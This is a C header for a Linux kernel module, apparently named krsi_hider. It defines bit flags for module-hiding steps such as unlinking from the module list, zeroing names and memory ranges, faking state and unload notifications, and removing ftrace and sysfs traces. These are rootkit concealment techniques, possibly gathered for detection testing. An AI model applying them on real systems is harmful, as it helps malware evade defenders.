/* SPDX-License-Identifier: GPL-2.0 */
/* The steps of krsi_hider.c. */
#ifndef HIDER_H
#define HIDER_H

#define HIDE_LIST	(1U << 0)  /* list_del(): poison in the pointers */
#define HIDE_LIST_FALSE	(1U << 1)  /* list_del(), and they lead to the neighbours again */
#define HIDE_BUGS	(1U << 2)  /* out of the list of bug tables */
#define HIDE_TREE	(1U << 3)  /* out of the tree of addresses */
#define HIDE_MEMORY	(1U << 4)  /* memory ranges of no size */
#define HIDE_NAME	(1U << 5)  /* a name of zeros */
#define HIDE_BORROW	(1U << 6)  /* the name of another module */
#define HIDE_SYMBOLS	(1U << 7)  /* no symbols */
#define HIDE_STATE	(1U << 8)  /* MODULE_STATE_UNFORMED */
#define HIDE_LEAVE	(1U << 9)  /* like one that is unloaded, and the chain is told so */
#define HIDE_CHAIN	(1U << 10) /* the chain is told that it goes */
#define HIDE_FTRACE	(1U << 11) /* without ftrace records, for good */
#define HIDE_SYSFS	(1U << 12) /* kobject_del(); it can't be unloaded any more */
#define HIDE_SYSFS_FLAG	(1U << 13) /* the same, and the kobject says that it is there */
/* To the head of the chain alone, after what the two above tell: */
#define HIDE_COME	(1U << 14) /* that it comes */
#define HIDE_COPY	(1U << 15) /* that a copy of its struct module comes, named copy */
#define HIDE_RANGES	(1U << 16) /* its memory ranges are zeroed, their addresses, too */

#endif /* HIDER_H */
